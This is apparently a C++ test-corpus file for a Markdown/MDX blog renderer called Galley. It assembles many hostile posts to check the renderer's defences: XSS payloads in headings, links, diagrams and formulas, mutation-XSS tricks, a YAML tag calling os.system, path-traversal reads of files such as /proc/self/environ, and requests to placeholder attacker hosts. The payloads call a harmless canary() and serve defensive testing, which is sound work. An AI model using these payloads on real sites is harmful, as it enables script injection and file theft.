// SPDX-FileCopyrightText: 2026 The Galley authors
// SPDX-License-Identifier: MIT
#include "attackcorpus.h"

#include "hostilecontent.h"

#include <array>

using namespace Qt::StringLiterals;

namespace Galley {
namespace {

struct Row
{
    const char *name;
    const char *text;
};

// clang-format off
/// Short enough to stand in one line of any place.
constexpr std::array shortAttacks{
    Row{"script", "<script>canary()</script>"},
    Row{"image error", "<img src=x onerror=canary()>"},
    Row{"image error behind quotes", "\"'><img src=x onerror=canary()>"},
    Row{"SVG load behind a tag's end", "</title></textarea></style></script><svg onload=canary()>"},
    Row{"attribute", "\" onmouseover=canary() onfocus=canary() autofocus x=\""},
    Row{"code address", "javascript:canary()"},
    Row{"frame", "<iframe src=javascript:parent.canary() srcdoc='<script>parent.canary()</script>'></iframe>"},
    Row{"picture of a server", "<img src=@URL@/i.png srcset='@URL@/j.png 2x'>"},
    Row{"address of a server", "@URL@/direct.png"},
    Row{"style of a server", "x;background:url(@URL@/s.png)"},
    Row{"file outside", "<img src=file://@FILE@.png><object data=file://@FILE@.txt></object>"},
    Row{"JSX expression", "{canary()}{(() => canary())()}"},
    Row{"template string", "${canary()}`+canary()+`"},
};

/// Places in a post that an attack (@A@) may stand in.
constexpr std::array sinks{
    Row{"a heading", "## @A@ {#x}\n\ntext"},
    Row{"a heading with underline", "@A@\n=====\n\ntext"},
    Row{"emphasis and a link's text", "**@A@** [@A@](/x)"},
    Row{"a link's target", "[x](<@A@>) [y][r]\n\n[r]: <@A@>"},
    Row{"a link's title", "[x](/x '@A@')"},
    Row{"an image's text", "![@A@](./none.png) ![@A@](@URL@/i.png '@A@')"},
    Row{"an image's address", "![x](<@A@>)"},
    Row{"code", "`@A@`\n\n    @A@"},
    Row{"a fence", "```html\n@A@\n```"},
    Row{"a fence's info", "```@A@\nx\n```"},
    Row{"a fence's title", "```js title=\"@A@\" {1} showLineNumbers\nx\n```"},
    Row{"a list", "- @A@\n- [ ] @A@\n\n1. @A@"},
    Row{"a quote", "> @A@"},
    Row{"a table", "| @A@ | x |\n|---|---|\n| @A@ | @A@ |"},
    Row{"a footnote", "x[^1]\n\n[^1]: @A@"},
    Row{"an admonition's title", ":::note[@A@]\n\n@A@\n\n:::"},
    Row{"a details' summary", "<details><summary>@A@</summary>\n\n@A@\n\n</details>"},
    Row{"a tab's label", "<Tabs><TabItem value=\"a\" label=\"x @A@\">\n\n@A@\n\n</TabItem></Tabs>"},
    Row{"a component's attribute", "<Unknown a='@A@' {...{onClick: canary}} />"},
    Row{"inner HTML of JSX", "<p dangerouslySetInnerHTML={{__html: '@A@'}} />"},
    Row{"an expression", "{'@A@'} {\"@A@\"}"},
    Row{"an export", "export const x = '@A@'\n\n{x}"},
    Row{"an import", "import x from '@A@'\n\n<img src={x} /> <x.y />"},
    Row{"a formula", "$@A@$\n\n$$\n\\text{@A@}\n$$"},
    Row{"a diagram's label", "```mermaid\ngraph TD\nA[\"@A@\"] --> B\n```"},
    Row{"a comment", "<!-- @A@ -->\n\n{/* @A@ */}\n\n<!-- truncate @A@ -->"},
    Row{"title", "---\ntitle: >-\n  @A@\n---\nx"},
    Row{"description and keywords", "---\ndescription: >-\n  @A@\nkeywords:\n  - >-\n    @A@\n---\nx"},
    Row{"image and slug", "---\nimage: >-\n  @A@\nslug: >-\n  @A@\n---\nx"},
    Row{"tags", "---\ntags:\n  - >-\n    @A@\n  - label: >-\n      @A@\n    permalink: >-\n      @A@\n---\nx"},
    Row{"an author", "---\nauthors:\n  - name: >-\n      @A@\n    title: >-\n      @A@\n    url: >-\n      @A@\n    image_url: >-\n      @A@\n    email: >-\n      @A@\n    socials:\n      x: >-\n        @A@\n---\nx"},
    Row{"author keys", "---\nauthors: [\"nobody\", >-\n  @A@]\n---\nx"},
    Row{"an unknown key", "---\n? >-\n  @A@\n: >-\n  @A@\ndate: >-\n  @A@\n---\nx"},
};

/// Whole posts whose syntax is the attack.
constexpr std::array posts{
    Row{"front matter that is code", "---js\n{title: canary()}\n---\n\nx"},
    Row{"front matter with a language's tags", "---\ntitle: !!python/object/apply:os.system [canary]\nx: !!js/function 'canary()'\n---\nx"},
    Row{"formula with a link", "$\\href{javascript:canary()}{x}$ $\\url{javascript:canary()}$"},
    Row{"formula with HTML", "$\\htmlId{galley}{x} \\htmlData{onclick=canary()}{y} \\htmlStyle{background:url(@URL@/m.png)}{z}$"},
    Row{"formula with an image", "$\\includegraphics[alt=x]{@URL@/formula.png}$"},
    Row{"formula that defines for ever", "$\\def\\a{\\a\\a}\\a$"},
    Row{"diagram with a click", "```mermaid\ngraph TD\nA-->B\nclick A call canary()\nclick B \"javascript:canary()\"\nclick A href \"@URL@/c\" _self\n```"},
    Row{"diagram with settings", "```mermaid\n%%{init: {\"securityLevel\": \"loose\", \"htmlLabels\": true, \"themeCSS\": \"*{background:url(@URL@/t.png)}\", \"fontFamily\": \"x;}@import '@URL@/f.css';\"}}%%\ngraph TD\nA[\"<img src=x onerror=canary()>\"]\n```"},
    Row{"diagram with front matter", "```mermaid\n---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA[\"<script>canary()</script>\"]\n```"},
    Row{"diagram with classes", "```mermaid\ngraph TD\nA:::x\nclassDef x fill:url(@URL@/d.svg#x),background:url(@URL@/d.png)\nstyle A fill:url(@URL@/e.png)\n```"},
    Row{"diagram with a picture", "```mermaid\nflowchart TD\nA@{ img: \"@URL@/node.png\", label: \"x\" }\n```"},
    Row{"diagram of a sequence", "```mermaid\nsequenceDiagram\nparticipant A as <img src=x onerror=canary()>\nlink A: x @ javascript:canary()\nA->>A: <iframe srcdoc='<script>parent.canary()</script>'>\n```"},
    Row{"diagram of classes", "```mermaid\nclassDiagram\nclass A~<img src=x onerror=canary()>~\nclick A call canary()\nlink A \"javascript:canary()\"\n```"},
    Row{"diagram with a label that mutates", "```mermaid\ngraph TD\nA[\"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary()&gt;'>\"]\n```"},
    Row{"diagram with a formula", "```mermaid\ngraph TD\nA[\"$$\\href{javascript:canary()}{x}$$\"]\n```"},
    Row{"import of a script", "import '@URL@/x.js'\nimport {y} from 'data:text/javascript,canary()'\n\n<y />"},
    Row{"import of a file", "import F from '!!raw-loader!@FILE@.txt'\nimport P from '@FILE@.png'\n\n<CodeBlock>{F}</CodeBlock> <img src={P} />"},
    Row{"required file", "<img src={require('@FILE@.png').default} /> <img src={require('../../../outside/secret.png')} />"},
    Row{"top-level code", "export const a = canary();\n\nexport default canary()\n\n{a}"},
    Row{"component made from text", "export const X = () => <img src='x' onError={canary()} />\n\n<X />"},
    Row{"handler as an expression", "<img src=\"x\" onError={() => canary()} onLoad={canary()} />"},
    Row{"address as an expression", "<a href={'java' + 'script:canary()'}>x</a> <a href={`javascript:canary()`}>y</a>"},
    Row{"head of the page", "<Head><script>canary()</script><meta http-equiv=\"refresh\" content=\"0;url=@URL@\"/></Head>\n\n<head><base href=\"@URL@\"/></head>"},
    Row{"link component", "<Link to=\"javascript:canary()\">x</Link> <Link href=\"data:text/html,x\">y</Link>"},
    Row{"admonition attributes", ":::note{onclick=\"canary()\" style=\"background:url(@URL@/a.png)\" .galley-box #galley}\nx\n:::"},
    Row{"heading ids that shadow", "## a {#__proto__}\n## b {#galley}\n## c {#body}\n## d {#qt}\n## e {#QWebChannel}"},
    Row{"relative path outside", "![x](../../outside/secret.png) ![y](./../../../outside/secret.png) ![z](..%2f..%2foutside%2fsecret.png) ![w](%2e%2e/%2e%2e/outside/secret.png)"},
    Row{"encoded twice", "![x](..%252f..%252foutside%252fsecret.png) ![y](..\\..\\outside\\secret.png)"},
    Row{"symbolic link", "![x](./link.png) ![y](./linked/secret.png) ![z](/link.png)"},
    Row{"absolute path", "![x](@FILE@.png) ![y](<//@FILE@.png>) ![z](@site/../outside/secret.png) <img src=\"@FILE@.png\" />"},
    Row{"device and process", "![x](/dev/zero) ![y](/proc/self/environ) ![z](../../../../../../../../proc/self/mem)"},
    Row{"schemes of the browser", "![x](view-source:file://@FILE@.txt) ![y](chrome://crash) ![z](qrc:/galley/web/page.js) ![w](blob:null/x) [c](chrome://kill) [d](view-source:@URL@)"},
    Row{"links with control characters", "[x](<java\tscript:canary()>) [y](<&#1;javascript:canary()>) [z](javascript&colon;canary()) [w](%6Aavascript:canary()) [v](<\\j\\avascript:canary()>)"},
    Row{"automatic links", "<javascript:canary()> <data:text/html,x> <file://@FILE@.txt> <vbscript:x>"},
    Row{"reference definitions", "[a]: javascript:canary()\n[b]: data:text/html,<script>canary()</script>\n[c]: @URL@/ref.png\n\n[a] [b] ![c] ![x][c]"},
    Row{"invisible characters", "<scr\u200bipt>canary()</scr\u200bipt> <img src=x on\u0000error=canary()> \u202e<img src=x onerror=canary()>"},
    Row{"overlong nesting", "> > > > > > > > > > > > > > > > <img src=x onerror=canary()>\n\n*****************<script>canary()</script>*****************"},
    Row{"raw post in CommonMark", "---\nmdx: {format: md}\n---\n<script>canary()</script>\n<img src=x onerror=canary()>\n<style>@import '@URL@/c.css'</style>"},
};

/// Attacks on the browser beyond those of hostilecontent.h.
constexpr std::array moreContents{
    Row{"portal", "<portal src=\"@URL@/portal\"></portal>"},
    Row{"fenced frame", "<fencedframe src=\"@URL@/f\"></fencedframe>"},
    Row{"import map", "<script type=importmap>{\"imports\":{\"x\":\"@URL@/x.js\"}}</script><script type=module>import 'x'</script>"},
    Row{"speculation rules", "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"@URL@/s\"]}]}</script>"},
    Row{"preload of an image", "<link rel=preload as=image href=\"@URL@/p.png\" imagesrcset=\"@URL@/q.png 1x\">"},
    Row{"module preload", "<link rel=modulepreload href=\"@URL@/m.js\">"},
    Row{"icon", "<link rel=icon href=\"@URL@/icon.ico\"><link rel=manifest href=\"@URL@/app.json\">"},
    Row{"prerender", "<link rel=prerender href=\"@URL@/pre\"><link rel=next href=\"@URL@/next\">"},
    Row{"style with an import", "<style>@import url(@URL@/1.css); @font-face{font-family:x;src:url(@URL@/f.woff)} *{font-family:x}</style>"},
    Row{"style of a cursor and a list", "<p style=\"cursor:url(@URL@/c.cur),auto\">x</p><ul style=\"list-style:url(@URL@/l.png)\"><li>x</ul>"},
    Row{"style of a mask and a filter", "<p style=\"mask:url(@URL@/m.svg#x);filter:url(@URL@/f.svg#x);clip-path:url(@URL@/k.svg#x)\">x</p>"},
    Row{"style with hidden names", "<p style=\"background:u\\72 l(@URL@/b.png);--x:url(@URL@/v.png);content:var(--x)\">x</p>"},
    Row{"style of an image set", "<p style=\"background-image:-webkit-image-set('@URL@/b.png' 1x);border-image:url(@URL@/e.png)\">x</p>"},
    Row{"image with a lazy address", "<img loading=lazy src=\"@URL@/lazy.png\"><img data-src=\"@URL@/d.png\" lowsrc=\"@URL@/low.png\" dynsrc=\"@URL@/dyn.png\">"},
    Row{"image of a host alone", "<img src=//attack.example/a.png><img src=\\\\attack.example\\b.png><img src=/\t/attack.example/c.png>"},
    Row{"image of another scheme", "<img src=ftp://attack.example/a.png><img src=ws://attack.example/b><img src=filesystem:x>"},
    Row{"background attributes", "<table background=\"@URL@/t.png\"><tr background=\"@URL@/r.png\"><td background=\"@URL@/d.png\">x</table><body background=\"@URL@/b.png\">"},
    Row{"SVG image", "<svg><image href=\"@URL@/i.png\" xlink:href=\"@URL@/j.png\"/><feImage href=\"@URL@/f.png\"/><use href=\"@URL@/u.svg#x\"/></svg>"},
    Row{"SVG set", "<svg><a id=x><set attributeName=href to=javascript:canary()><text>t</text></a></svg>"},
    Row{"SVG style", "<svg><style>*{fill:url(@URL@/x.svg#y)} @import '@URL@/z.css';</style><rect width=9 height=9 /></svg>"},
    Row{"SVG picture with a frame", "<img src='data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0icGFyZW50LmNhbmFyeSgpIj48Zm9yZWlnbk9iamVjdD48aWZyYW1lIHhtbG5zPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hodG1sIiBzcmM9ImphdmFzY3JpcHQ6cGFyZW50LmNhbmFyeSgpIi8+PC9mb3JlaWduT2JqZWN0Pjwvc3ZnPg=='>"},
    Row{"SVG with entities", "<svg><!DOCTYPE x [<!ENTITY y SYSTEM 'file://@FILE@.txt'>]><text>&y;</text></svg>"},
    Row{"MathML with an address", "<math href=javascript:canary()><mi xlink:href=javascript:canary() xlink:show=embed>x</mi></math>"},
    Row{"MathML with HTML", "<math><annotation-xml encoding=\"text/html\"><script>canary()</script><img src=x onerror=canary()></annotation-xml></math>"},
    Row{"mutation through a form", "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img src=x onerror=canary()>\">"},
    Row{"mutation through a select", "<select><template><style><!--</style></template><a rel=\"--></style></select><img src=x onerror=canary()>\">"},
    Row{"mutation through SVG and a comment", "<svg></p><style><a id=\"</style><img src=x onerror=canary()>\">"},
    Row{"mutation through a title in SVG", "<svg><title><style><img src=x onerror=canary()></style></title></svg>"},
    Row{"mutation through a listing", "<listing>&lt;img src=x onerror=canary()&gt;</listing><pre>\n<img src=x onerror=canary()></pre>"},
    Row{"mutation through CDATA", "<svg><![CDATA[><img src=x onerror=canary()>]]></svg>"},
    Row{"processing instruction", "<?xml-stylesheet href=\"@URL@/x.xsl\" type=\"text/xsl\"?><?php canary() ?>"},
    Row{"shadow root", "<div><template shadowroot=open shadowrootmode=open><script>canary()</script><img src=x onerror=canary()></template></div>"},
    Row{"custom element", "<x-y onfocus=canary() tabindex=1 autofocus>x</x-y><input is=x-z oninput=canary()>"},
    Row{"popover and command", "<button popovertarget=p commandfor=p command=show-popover>x</button><div id=p popover onbeforetoggle=canary()>x</div>"},
    Row{"access key", "<a href=/x accesskey=x onclick=canary()>x</a>"},
    Row{"content visibility", "<div oncontentvisibilityautostatechange=canary() style=content-visibility:auto>x</div>"},
    Row{"pointer and drag", "<p draggable=true ondragstart=canary() onpointerover=canary() onwheel=canary() oncopy=canary()>x</p>"},
    Row{"transition", "<p ontransitionend=canary() ontransitionrun=canary() style=\"transition:color 1ms;color:red\">x</p>"},
    Row{"scroll", "<div onscroll=canary() style=\"overflow:auto;height:1px\"><p id=s>x</div>"},
    Row{"page events", "<body onpageshow=canary() onhashchange=canary() onmessage=canary() onpopstate=canary() onresize=canary()>"},
    Row{"dialog", "<dialog open onclose=canary()><form method=dialog><button autofocus>x</button></form></dialog>"},
    Row{"object of a file", "<object data=\"file://@FILE@.txt\" type=text/plain></object><embed src=\"file://@FILE@.png\">"},
    Row{"frame of a file", "<iframe src=\"file://@FILE@.txt\"></iframe><iframe src=\"galley://blog@FILE@.txt\"></iframe>"},
    Row{"frame of our page", "<iframe src=\"galley://page/\"></iframe><frame src=\"galley://page/page.html\">"},
    Row{"frame of a source", "<iframe src=\"view-source:@URL@\"></iframe><iframe src=\"chrome://gpu\"></iframe><iframe src=\"about:srcdoc\"></iframe>"},
    Row{"media of a file", "<video src=\"file://@FILE@.png\" poster=\"file://@FILE@.png\"></video><audio src=\"galley://blog@FILE@.txt\"></audio>"},
    Row{"remote address of ours", "<img src=\"galley://remote/aHR0cDovL2F0dGFjay5leGFtcGxlL2EucG5n\"><video src=\"galley://remote/aHR0cDovLzEyNy4wLjAuMS8\"></video>"},
    Row{"box of ours", "<div class=galley-box data-kind=remote data-url=\"@URL@/box.png\"><button class=galley-box-action data-action=once>x</button></div>"},
    Row{"attribution", "<img src=x attributionsrc=\"@URL@/a\"><a href=/x attributionsrc=\"@URL@/b\" ping=\"@URL@/c\">x</a>"},
    Row{"refresh in a noscript", "<noscript><meta http-equiv=refresh content=\"0;url=@URL@/r\"></noscript>"},
    Row{"policy of its own", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\"><script>canary()</script><meta http-equiv=set-cookie content=a=b>"},
    Row{"character set", "<meta charset=utf-7>+ADw-script+AD4-canary()+ADw-/script+AD4-"},
    Row{"names of our script", "<img name=galley id=galley><form name=qt id=qt><input name=webChannelTransport></form><a id=QWebChannel></a><a id=mermaid></a><form name=documentElement></form>"},
    Row{"names of the document", "<img name=body><img name=head><form name=createElement><input name=children></form><embed name=cookie>"},
    Row{"download", "<a href=\"@URL@/x.sh\" download=x.desktop>x</a><a href=\"data:application/x-sh,x\" download>y</a>"},
    Row{"target of the opener", "<a href=\"@URL@/o\" target=_top rel=opener>x</a><a href=\"about:blank\" target=_blank>y</a>"},
    Row{"isindex and keygen", "<isindex prompt=x action=javascript:canary()><keygen autofocus onfocus=canary()>"},
    Row{"applet and bgsound", "<applet code=x archive=\"@URL@/a.jar\"></applet><bgsound src=\"@URL@/b.wav\"><layer src=\"@URL@/l\"></layer><xml src=\"@URL@/x\"></xml>"},
};
// clang-format on

QString filled(QString text, const AttackTargets &targets)
{
    return text.replace(u"@URL@"_s, targets.url).replace(u"@FILE@"_s, targets.file);
}

QString inSink(const Row &attack, const Row &sink)
{
    return QString::fromUtf8(sink.text).replace(u"@A@"_s, QString::fromUtf8(attack.text));
}

} // namespace

QList<AttackPost> attackFragments(const AttackTargets &targets)
{
    QList<AttackPost> fragments;
    for (const HostileContent &content : hostileContents)
        fragments.append({QString::fromUtf8(content.name), filled(QString::fromUtf8(content.html), targets)});
    for (const Row &row : moreContents)
        fragments.append({QString::fromUtf8(row.name), filled(QString::fromUtf8(row.text), targets)});
    return fragments;
}

QList<AttackPost> attackCorpus(const AttackTargets &targets)
{
    QList<AttackPost> corpus;
    for (const AttackPost &fragment : attackFragments(targets)) {
        corpus.append({fragment.name, u"text\n\n"_s + fragment.text + u"\n\nend"_s, u"mdx"_s});
        corpus.append(
            {fragment.name + u", as CommonMark"_s,
             u"---\nmdx:\n  format: md\n---\n\n"_s + fragment.text + u"\n\ntext "_s + fragment.text});
    }
    for (const Row &sink : sinks) {
        for (const Row &attack : shortAttacks)
            corpus.append(
                {QString::fromUtf8(attack.name) + u" in "_s + QString::fromUtf8(sink.name),
                 filled(inSink(attack, sink), targets)});
    }
    for (const Row &post : posts)
        corpus.append({QString::fromUtf8(post.name), filled(QString::fromUtf8(post.text), targets)});
    return corpus;
}

} // namespace Galley
